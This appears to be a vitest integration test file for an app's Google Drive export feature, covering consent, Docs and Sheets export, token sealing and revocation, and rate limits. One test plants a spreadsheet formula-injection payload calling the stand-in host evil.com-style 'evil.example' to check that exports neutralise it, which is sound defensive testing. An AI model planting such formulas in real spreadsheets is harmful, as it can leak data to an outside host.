import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { aiContentContract } from '../../src/features/ai-content/contract.ts'
import { authContract } from '../../src/features/auth/contract.ts'
import { type GoogleTarget, googleExportContract } from '../../src/features/google-export/contract.ts'
import { googleErrorTexts } from '../../src/features/google-export/web/error-texts.ts'
import { generalReasons } from '../../src/web/calls/error-texts.ts'
import { type GoogleDriveDouble, startGoogleDrive } from '../doubles/google-drive.ts'
import { createSampleReport } from '../support/sample-report.ts'
import { startTestServer, type TestServer } from '../support/server.ts'
import { until } from '../support/wait-until.ts'

let double: GoogleDriveDouble
let server: TestServer
let stop: () => Promise<void>
beforeAll(async () => {
  double = await startGoogleDrive()
  server = await startTestServer(double.settings)
  stop = await server.app.start({ alone: false })
})
afterAll(async () => {
  await stop()
  await server.close()
  await double.close()
})
beforeEach(() => {
  double.state.faults.length = 0
  double.state.files.length = 0
  double.state.revoked.length = 0
})

type Person = Awaited<ReturnType<TestServer['signUp']>>

/** Consent at Google and the way back. Each person has an account of their own. */
async function connect({ call, workspaceId, email }: Person, target?: GoogleTarget) {
  const { url } = await call(googleExportContract.connect, { workspace_id: workspaceId, export: target })
  return call(googleExportContract.finish, double.consent(url, { account: email }))
}
const getConnection = async ({ call, workspaceId }: Person) =>
  (await call(googleExportContract.connection, { workspace_id: workspaceId })).connection
const exportIt = ({ call, workspaceId }: Person, target: GoogleTarget, idempotencyKey?: string) =>
  call(googleExportContract.export, { workspace_id: workspaceId, ...target }, { idempotencyKey })

async function addDocument({ call, workspaceId }: Person, content: string, title = 'Cold brew at home') {
  const { item } = await call(aiContentContract.new, { workspace_id: workspaceId, template: 'blog_post', title })
  await call(aiContentContract.update, { _id: item._id, version: item.version, content_md: content })
  return { kind: 'document', source_id: item._id } as const
}

test('a document becomes a Google Doc of the person who connected, and the way back says what was to be exported', async () => {
  const who = await server.signUp()
  const target = await addDocument(who, '## Ratio\n\nUse **one** to eight.\n\n| a | b |\n|---|---|\n| 1 | 2 |')
  await expect(exportIt(who, target)).rejects.toMatchObject({
    code: 'conflict',
    options: { reason: 'google_not_connected' },
  })
  expect(await getConnection(who)).toEqual({ available: true, connected_at: null })
  expect(await connect(who, target)).toEqual({ workspace_id: who.workspaceId, export: target })
  expect((await getConnection(who)).connected_at).toEqual(expect.any(String))

  const { file } = await exportIt(who, target)
  expect(file).toMatchObject({ kind: 'document', name: 'Cold brew at home' })
  expect(file.url).toMatch(/^https:\/\/docs\.google\.com\/document\/d\/[\w-]+\/edit/)
  expect(double.state.files).toMatchObject([{ name: 'Cold brew at home', by: who.email }])
  const html = double.state.files[0]!.content
  expect(html).toContain('<h2')
  expect(html).toContain('<strong>one</strong>')
  expect(html).toContain('<table')

  const { rows } = await server.database.pool.query(
    `select action, subject, details from audit_log where actor_email = $1 and action like 'google.%' order by at`,
    [who.email],
  )
  expect(rows).toMatchObject([
    { action: 'google.connected', details: { workspace_id: who.workspaceId } },
    {
      action: 'google.exported',
      subject: 'Cold brew at home',
      details: { kind: 'document', source_id: target.source_id },
    },
  ])
})

test('a report’s keywords become a Google Sheet, with formulas as text and no byte order mark', async () => {
  const who = await server.signUp('starter')
  const id = await createSampleReport(who)
  await connect(who)
  await server.database.pool.query(
    `update report_rows set text = '=importxml("http://evil.example","//a")'
     where report_id = $1 and id = (select id from report_rows where report_id = $1 limit 1)`,
    [id],
  )
  const { file } = await exportIt(who, { kind: 'report', source_id: id })
  expect(file).toMatchObject({ kind: 'spreadsheet', name: 'cold brew coffee' })
  expect(file.url).toMatch(/^https:\/\/docs\.google\.com\/spreadsheets\/d\//)
  const { content } = double.state.files[0]!
  expect(content.startsWith('Keyword,')).toBe(true)
  const rows = Papa.parse<Record<string, string>>(content, { header: true, skipEmptyLines: true }).data
  expect(rows.length).toBeGreaterThan(50)
  expect(rows.filter(({ Keyword }) => /^[=+@-]/.test(Keyword!))).toEqual([])
  expect(rows.some(({ Keyword }) => Keyword!.startsWith("'=importxml"))).toBe(true)

  const questions = await exportIt(who, { kind: 'report', source_id: id, section: 'questions' })
  expect(questions.file.name).toBe('cold brew coffee Questions')
  await expect(exportIt(who, { ...(await addDocument(who, 'Text.')), section: 'questions' })).rejects.toMatchObject({
    options: { field: 'section', reason: 'not_a_report' },
  })
})

test('the same export asked for twice with one key is one file', async () => {
  const who = await server.signUp()
  const target = await addDocument(who, 'Text.')
  await connect(who)
  const key = crypto.randomUUID()
  const first = await exportIt(who, target, key)
  expect(await exportIt(who, target, key)).toEqual(first)
  expect(double.state.files).toHaveLength(1)
})

test('a file whose answer was lost isn’t sent again', async () => {
  const who = await server.signUp()
  const target = await addDocument(who, 'Text.')
  await connect(who)
  double.state.faults.push('lost')
  await expect(exportIt(who, target)).rejects.toMatchObject({
    code: 'upstream_failed',
    options: { reason: 'google_uncertain' },
  })
  expect(double.state.files).toHaveLength(1)
  expect((await getConnection(who)).connected_at).not.toBeNull()
})

test('a consent that ended at Google means connecting again; a full Drive doesn’t', async () => {
  const who = await server.signUp()
  const target = await addDocument(who, 'Text.')
  await connect(who)
  double.state.faults.push({ status: 403, reason: 'storageQuotaExceeded' })
  await expect(exportIt(who, target)).rejects.toMatchObject({ options: { reason: 'google_storage_full' } })
  expect((await getConnection(who)).connected_at).not.toBeNull()
  double.endConsent(who.email)
  await expect(exportIt(who, target)).rejects.toMatchObject({
    code: 'conflict',
    options: { reason: 'google_reconnect' },
  })
  expect((await getConnection(who)).connected_at).toBeNull()
  await connect(who)
  await exportIt(who, target)
  const reasons = { ...generalReasons, ...googleErrorTexts.reasons }
  for (const reason of ['google_storage_full', 'google_reconnect', 'google_not_connected'])
    expect(Object.keys(reasons)).toContain(reason)
})

test('a connection is of one member: others of the workspace don’t have it, and its state works once for them alone', async () => {
  const [owner, other] = [await server.signUp(), await server.signUp()]
  await server.database.pool.query(`insert into members (workspace_id, user_id, role) values ($1, $2, 'viewer')`, [
    owner.workspaceId,
    other.user.id,
  ])
  const target = await addDocument(owner, 'Text.')
  await connect(owner)
  const member = { ...other, workspaceId: owner.workspaceId }
  expect((await getConnection(member)).connected_at).toBeNull()
  await expect(exportIt(member, target)).rejects.toMatchObject({ options: { reason: 'google_not_connected' } })

  const { url } = await owner.call(googleExportContract.connect, { workspace_id: owner.workspaceId })
  const back = double.consent(url, { account: owner.email })
  const expired = { code: 'conflict', options: { reason: 'google_state_expired' } }
  await expect(other.call(googleExportContract.finish, back)).rejects.toMatchObject(expired)
  await owner.call(googleExportContract.finish, back)
  await expect(owner.call(googleExportContract.finish, back)).rejects.toMatchObject(expired)

  // A viewer exports to their own Drive.
  await connect(member)
  await exportIt(member, target)
  expect(double.state.files.map(({ by }) => by)).toEqual([other.email])
  // Leaving the workspace ends it.
  await server.database.pool.query('delete from members where user_id = $1 and workspace_id = $2', [
    other.user.id,
    owner.workspaceId,
  ])
  const { rows } = await server.database.pool.query('select user_id from google_connections where workspace_id = $1', [
    owner.workspaceId,
  ])
  expect(rows).toEqual([{ user_id: owner.user.id }])
})

test('a consent without the permission isn’t kept', async () => {
  const who = await server.signUp()
  const { url } = await who.call(googleExportContract.connect, { workspace_id: who.workspaceId })
  const back = double.consent(url, { account: who.email, granted: 'openid' })
  await expect(who.call(googleExportContract.finish, back)).rejects.toMatchObject({
    options: { reason: 'google_not_allowed' },
  })
  expect((await getConnection(who)).connected_at).toBeNull()
})

test('disconnecting revokes at Google, and tokens are stored sealed', async () => {
  const who = await server.signUp()
  await connect(who)
  const [token] = [...double.state.refreshTokens].find(([, account]) => account === who.email)!
  const { rows } = await server.database.pool.query('select * from google_connections where user_id = $1', [
    who.user.id,
  ])
  expect(JSON.stringify(rows)).not.toContain(token)
  await who.call(googleExportContract.disconnect, { workspace_id: who.workspaceId })
  expect(double.state.revoked).toEqual([token])
  expect((await getConnection(who)).connected_at).toBeNull()
  await who.call(googleExportContract.disconnect, { workspace_id: who.workspaceId })
  expect(double.state.revoked).toEqual([token])
})

test('an account’s export lists its connections, without what they open', async () => {
  const who = await server.signUp()
  await connect(who)
  const [token] = [...double.state.refreshTokens].find(([, account]) => account === who.email)!
  const response = await fetch(`${server.url}/user/export`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${who.token}` },
  })
  expect(response.status).toBe(200)
  const files = unzipSync(await response.bytes())
  expect(JSON.parse(strFromU8(files['google-connections.json']!))).toEqual([
    { workspace_id: who.workspaceId, connected_at: expect.any(String) },
  ])
  for (const file of Object.values(files)) expect(strFromU8(file)).not.toContain(token)
})

test('deleting an account revokes its consents', async () => {
  const who = await server.signUp()
  await connect(who)
  await who.call(authContract.deleteAccount, { password: who.password })
  await until('the consent to end', async () => double.state.revoked.length > 0)
  expect([...double.state.refreshTokens.values()]).not.toContain(who.email)
  const { rows } = await server.database.pool.query('select 1 from google_connections where user_id = $1', [
    who.user.id,
  ])
  expect(rows).toEqual([])
})

test('what isn’t in the workspace isn’t exported, and 60 files an hour are enough', async () => {
  const [who, other] = [await server.signUp(), await server.signUp()]
  const target = await addDocument(other, 'Text.')
  await connect(who)
  await expect(exportIt(who, target)).rejects.toMatchObject({ code: 'not_found' })
  const own = await addDocument(who, 'Text.')
  await server.database.pool.query(
    `insert into rate_counts (bucket, count, resets_at) values ($1, 60, now() + interval '20 minutes')`,
    [`google-export:${who.user.id}`],
  )
  await expect(exportIt(who, own)).rejects.toMatchObject({ code: 'rate_limited' })
  expect(double.state.files).toEqual([])
})

test('without the operator’s setting there is nothing to connect', async () => {
  const { GOOGLE_DRIVE: _off, ...settings } = double.settings
  const plain = await startTestServer(settings)
  try {
    const { call, workspaceId } = await plain.signUp()
    const { connection } = await call(googleExportContract.connection, { workspace_id: workspaceId })
    expect(connection).toEqual({ available: false, connected_at: null })
    await expect(call(googleExportContract.connect, { workspace_id: workspaceId })).rejects.toMatchObject({
      code: 'unavailable',
      options: { reason: 'google_not_set_up' },
    })
  } finally {
    await plain.close()
  }
})
